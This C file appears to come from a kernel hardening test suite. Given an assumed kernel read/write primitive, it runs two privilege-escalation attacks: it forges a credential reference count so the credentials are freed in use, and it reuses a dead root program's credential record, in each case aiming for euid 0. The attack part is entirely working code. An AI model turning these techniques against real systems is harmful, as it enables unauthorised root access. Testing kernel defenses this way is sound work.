// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attacks on when credentials, and the record of who has which, are freed: ordinary
 * memory counts who refers to them, and says which record was a task's.
 */
#include <fcntl.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"
#include "creds.h"
#include "list.h"
#include "objects.h"

#define PROGRAMS	48		/* of root's, whose credentials stay until they are waited for */
#define PAUSE		300000		/* microseconds: what nobody refers to is freed */
#define MANY		1000		/* users: it is never freed again */

/* Shared with who has them. */
static struct {
	volatile bool ready, go, done;
	volatile unsigned int euid;
} *holder;

static void share_holder(void)
{
	holder = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
}

/* ---- the count of users ---- */

/* A file names who opened it. The last one to close it is another process. */
static void hold(int closer)
{
	int file = open("/", O_RDONLY | O_CLOEXEC);
	char go;

	prctl(PR_SET_PDEATHSIG, SIGKILL);
	if (!fork())
		_exit(read(closer, &go, 1) != 1);
	close(file);
	holder->ready = true;
	/* No system call: whose credentials these are is not known for a while. */
	while (!holder->go)
		;
	holder->euid = geteuid();
	holder->done = true;
	pause();
}

static void start_programs(void)
{
	int i;

	for (i = 0; i < PROGRAMS; i++) {
		if (fork())
			continue;
		execl(SETUID_PROGRAM, SETUID_PROGRAM, (char *)NULL);
		_exit(1);
	}
	usleep(PAUSE);
}

enum outcome cred_count(void)
{
	struct task task;
	uint64_t counts;
	int closer[2];
	pid_t pid;

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	share_holder();
	stay_on_cpu(0);
	if (pipe(closer))
		return broken("no pipe");
	pid = fork();
	if (!pid) {
		stay_on_cpu(1);
		hold(closer[0]);
	}
	counts = wait_for_flag(&holder->ready) && !ktask(pid, &task) ? find_prepared(task.cred) : 0;
	if (!counts)
		return broken("no credentials found");
	kwrite64(counts, 1);
	if (write(closer[1], "g", 1) != 1)
		return broken("nobody closes the file");
	usleep(PAUSE);
	start_programs();
	holder->go = true;
	wait_for_flag(&holder->done);
	kwrite64(counts, MANY);
	if (!holder->done || holder->euid)
		return lost("credentials with a forged count stayed in force: euid=%u", holder->euid);
	return won("credentials with a forged count were freed in use, and became a program's of root: euid=%u",
		   holder->euid);
}

/* ---- the record of a task that is gone ---- */

#define TRIES		150
#define FORKS		20000		/* microseconds */

struct dead {
	struct task task;
	uint32_t number;		/* of its record */
};

static uint32_t record_of(const struct task *task)
{
	uint32_t number = 0;

	kread(task->cred_slot + RECORD_NUMBER, &number, sizeof(number));
	return number;
}

static void set_record(const struct task *task, uint32_t number)
{
	kwrite(task->cred_slot + RECORD_NUMBER, &number, sizeof(number));
}

int end_program(struct task *task)
{
	siginfo_t info;
	int start[2];
	char go;
	pid_t pid;

	if (pipe(start))
		return 0;
	pid = fork();
	if (!pid) {
		if (read(start[0], &go, 1) == 1)
			execl(SETUID_PROGRAM, SETUID_PROGRAM, (char *)NULL);
		_exit(1);
	}
	if (ktask(pid, task) || write(start[1], "g", 1) != 1 ||
	    waitid(P_PID, pid, &info, WEXITED | WNOWAIT))
		return 0;
	return info.si_code == CLD_EXITED && !info.si_status ? pid : 0;
}

/* It is waited for when it has no number of a record. */
static bool let_die(struct dead *dead)
{
	pid_t pid = end_program(&dead->task);

	if (!pid)
		return false;
	dead->number = record_of(&dead->task);
	set_record(&dead->task, 0);
	waitpid(pid, NULL, 0);
	usleep(PAUSE);
	return true;
}

static void look_when_told(int start)
{
	char go;

	if (read(start, &go, 1) != 1)
		_exit(1);
	holder->euid = geteuid();
	holder->done = true;
	read(start, &go, 1);
	_exit(0);
}

/* A new process where the dead one was, with its stack, takes its record, and gives it back. */
static bool take_over(const struct dead *dead)
{
	uint32_t number;
	struct task task;
	int start[2];
	bool same;
	pid_t pid;

	if (pipe(start))
		return false;
	pid = fork();
	if (!pid) {
		close(start[1]);
		look_when_told(start[0]);
	}
	same = !ktask(pid, &task) && task.task == dead->task.task && task.stack == dead->task.stack;
	if (same) {
		number = record_of(&task);
		set_record(&task, dead->number);
		if (write(start[1], "g", 1) == 1)
			wait_for_flag(&holder->done);
		set_record(&task, number);
	}
	close(start[0]);
	close(start[1]);
	waitpid(pid, NULL, 0);
	return same;
}

enum outcome dead_record(void)
{
	struct dead dead;
	bool same = false;
	int i;

	share_holder();
	stay_on_cpu(0);
	if (!let_die(&dead))
		return broken("no program of root's ran");
	for (i = 0; i < TRIES && !same; i++) {
		same = take_over(&dead);
		usleep(FORKS);
	}
	if (!same)
		return broken("no process was where the dead one had been");
	if (!holder->done || holder->euid)
		return lost("with the record of a dead program of root's euid=%u", holder->euid);
	return won("record %u of a dead program of root's taken by a process at its place: euid=0 after %d forks",
		   dead.number, i);
}
